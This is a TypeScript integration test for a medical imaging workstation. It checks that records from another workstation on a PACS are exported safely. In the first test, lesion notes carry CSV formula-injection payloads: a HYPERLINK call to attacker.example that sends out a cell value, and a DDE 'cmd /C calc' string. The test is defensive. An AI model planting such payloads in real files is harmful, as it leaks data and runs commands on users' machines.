import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Lesion } from '@shared/lesion/lesion';
import { parseDicomWebTarget } from '../../../electron/core/pacs/dicomweb/dicomweb-target';
import { readStowFile, stowRs } from '../../../electron/core/pacs/dicomweb/stow-rs';
import { runExportCommand } from '../../support/cli-in-process';
import { forgedFindings, storeOnOrthanc, type ForgedPlace } from '../../support/forged-team-publications';
import { makeLesion, typed } from '../../support/lesion-fixtures';
import { ORTHANC_BINARY, startOrthanc, type OrthancServer } from '../../support/orthanc-server';
import { runPacsCommand } from '../../support/pacs-cli';
import { SHARED_DICOM, temporaryFolder } from '../../support/paths';
import { openWorkstation, SURGEON_CD, type Workstation } from '../../support/team-workstations';
import { runPython } from '../../support/python-runner';

// What another workstation published reaches this one's exports: anyone able to STOW to the PACS
// chooses its text and the initials it signs with. A real Orthanc, a real database, the CLI's exports.
const HAVE_ORTHANC = fs.existsSync(ORTHANC_BINARY);
const CT_SMALL = path.join(SHARED_DICOM, 'pydicom/CT_small.dcm');
const CT_SMALL_SERIES = '1.3.6.1.4.1.5962.1.3.1.1.20040119072730.12322';

/** Python's csv module reads the file: an RFC 4180 reader that is not ours, as a spreadsheet's import would. */
function readWithPython(file: string): string[][] {
  const script = 'import csv, json, sys\nwith open(sys.argv[1], newline="", encoding="utf-8") as f:\n    print(json.dumps(list(csv.reader(f, strict=True))))';
  const result = runPython(['-c', script, file]);
  expect(result.status, result.stderr).toBe(0);
  return JSON.parse(result.stdout) as string[][];
}

/** A program's standard output, failing the test when it fails. */
function run(program: string, args: string[]): string {
  const result = spawnSync(program, args, { encoding: 'utf8' });
  expect(result.status, `${program}: ${result.stderr}`).toBe(0);
  return result.stdout;
}

describe.skipIf(!HAVE_ORTHANC)("another workstation's records in this workstation's exports (real Orthanc)", () => {
  let orthanc: OrthancServer;
  let scratch: string;
  let study: string;
  const opened: Workstation[] = [];
  /** The surgeon CD (Carl Dahl) on a fresh data folder: syncs, then opens the study from the PACS as the worklist does. */
  const surgeonWith = async (name: string, place: Omit<ForgedPlace, 'study'>, lesions: Lesion[]) => {
    await storeOnOrthanc(orthanc, forgedFindings({ ...place, study }, lesions));
    const surgeon = await openWorkstation(path.join(scratch, name), SURGEON_CD, orthanc.dicomWebUrl);
    opened.push(surgeon);
    expect(await surgeon.call('pacs.sync', {})).toMatchObject({ errors: [] });
    expect(JSON.parse(await runPacsCommand(['retrieve', study, '--json'], surgeon.dataDir))).toMatchObject({ instances: expect.any(Number) });
    return surgeon;
  };
  const lesion = (n: number, reader: string, overrides: Parameters<typeof makeLesion>[0] = {}) =>
    makeLesion({
      id: `0c0c8800-0000-4000-8000-${String(n).padStart(12, '0')}`, trackingUid: `2.25.8888${n}`, studyInstanceUid: study, seriesInstanceUid: CT_SMALL_SERIES,
      nature: 'lytic', axialInvolvementMm: typed(45), status: 'final', reader, ...overrides,
    });
  beforeAll(async () => {
    orthanc = await startOrthanc();
    scratch = temporaryFolder('received-in-exports');
    const ct = readStowFile(CT_SMALL);
    study = ct.studyInstanceUid;
    await stowRs(parseDicomWebTarget({ url: orthanc.dicomWebUrl }), [ct]);
  }, 120_000);
  afterAll(async () => {
    for (const ws of opened) ws.close();
    await orthanc?.stop();
    fs.rmSync(scratch, { recursive: true, force: true });
  });

  it('is never a spreadsheet formula in the lesion table: a note or initials starting with = + - @ are written as text', async () => {
    const note = '=HYPERLINK("http://attacker.example/?id="&E2,"Prior CT: see here")';
    const hostile = lesion(1, '-A1', { note });
    const other = lesion(2, '-A1', { note: '@SUM(1+1)*cmd|" /C calc"!A0' });
    const surgeon = await surgeonWith('formulas', { workstation: { id: 'a8800000-0000-4000-8000-000000000001', name: 'RAD-WS-88' }, reader: { initials: '-A1', name: '+Eva Fors' }, version: 1 }, [hostile, other]);
    const out = path.join(scratch, 'tables');
    await runExportCommand(['export', 'csv', '--study', study, '--out', out], surgeon.dataDir);
    const [header, ...rows] = readWithPython(path.join(out, 'lesions.csv'));
    expect(rows).toHaveLength(2);
    const cell = (row: string[], column: string) => row[header!.indexOf(column)]!;
    // Text stays whole and readable; only its first character no longer starts a formula.
    expect(rows.map((row) => cell(row, 'note')).sort()).toEqual([`'${note}`, `'${other.note}`].sort());
    expect(rows.map((row) => cell(row, 'reader'))).toEqual(["'-A1", "'-A1"]);
    const formulas = rows.flatMap((row) => row.filter((text) => /^[=+\-@\t\r]/.test(text)));
    expect(formulas).toEqual([]);
  }, 120_000);

  it("is never signed with this workstation's reader's name when it comes under the same initials", async () => {
    // Another workstation's reader who signs "CD", as the surgeon here does: a namesake elsewhere, or an impostor.
    const theirs = lesion(11, 'CD', { note: 'Recorded at RAD-WS-89' });
    const surgeon = await surgeonWith('same-initials', { workstation: { id: 'a8900000-0000-4000-8000-000000000001', name: 'RAD-WS-89' }, reader: { initials: 'CD', name: 'Mallory Impostor' }, version: 1 }, [theirs]);
    expect((await surgeon.call('lesions.get', { id: theirs.id })).origin).toMatchObject({ workstation: 'RAD-WS-89', readerName: 'Mallory Impostor' });

    // The SR: the lesion is in a report whose observer is its own reader, never Carl Dahl.
    const srFolder = path.join(scratch, 'sr');
    await runExportCommand(['export', 'sr', '--study', study, '--out', srFolder, '--no-pacs'], surgeon.dataDir);
    // (The PACS also holds the earlier case's publication, by another reader: its own report.)
    const reports = fs.readdirSync(srFolder).filter((file) => file.startsWith('SR-CD-')).map((file) => run('dcmdump', ['+P', '0040,a123', '+P', '0040,a160', path.join(srFolder, file)]));
    expect(reports).toHaveLength(1);
    expect(reports[0]).toContain('Impostor^Mallory');
    expect(reports[0]).not.toContain('Dahl');

    // The FHIR bundle: the finding's performer is its reader, and the surgeon exporting is another Practitioner.
    const fhirFolder = path.join(scratch, 'fhir');
    await runExportCommand(['export', 'fhir', '--study', study, '--out', fhirFolder, '--all'], surgeon.dataDir);
    const bundle = JSON.parse(fs.readFileSync(path.join(fhirFolder, fs.readdirSync(fhirFolder).find((f) => f.endsWith('.json'))!), 'utf8')) as { entry: { fullUrl: string; resource: Record<string, unknown> }[] };
    const byUrl = new Map(bundle.entry.map((e) => [e.fullUrl, e.resource]));
    const finding = bundle.entry.find((e) => e.resource.resourceType === 'Observation' && JSON.stringify(e.resource).includes(theirs.trackingUid))!.resource as { performer: { reference: string }[] };
    expect(byUrl.get(finding.performer[0]!.reference)).toMatchObject({ resourceType: 'Practitioner', name: [{ text: 'Mallory Impostor' }] });
    const request = bundle.entry.find((e) => e.resource.resourceType === 'ServiceRequest')?.resource as { requester?: { reference: string } } | undefined;
    if (request?.requester) expect(byUrl.get(request.requester.reference)).toMatchObject({ name: [{ text: 'Carl Dahl' }] });

    // The referral PDF names the lesion's reader and where it was recorded, never Carl Dahl as its reader.
    const referralFolder = path.join(scratch, 'referral');
    await runExportCommand(['export', 'referral', '--study', study, '--out', referralFolder, '--all'], surgeon.dataDir);
    const text = run('pdftotext', ['-layout', path.join(referralFolder, fs.readdirSync(referralFolder).find((f) => f.endsWith('.pdf'))!), '-']).replace(/\s+/g, ' ');
    expect(text).toContain('Reader: Mallory Impostor (CD) of workstation RAD-WS-89');
    expect(text).not.toContain('Reader: Carl Dahl');
  }, 120_000);
});
